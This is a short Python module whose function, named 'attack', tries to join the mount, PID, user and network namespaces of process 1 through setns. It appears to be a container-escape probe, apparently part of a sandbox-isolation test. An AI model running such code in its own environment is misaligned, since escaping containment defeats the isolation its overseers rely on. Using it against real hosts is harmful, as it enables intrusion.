"""Joins the namespaces of the process above."""

import ctypes
import os


def attack(canary, port):
    libc, found = ctypes.CDLL(None), []
    for name in ("mnt", "pid", "user", "net"):
        try:
            handle = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(handle, 0) == 0:
            found.append(name)
    return found
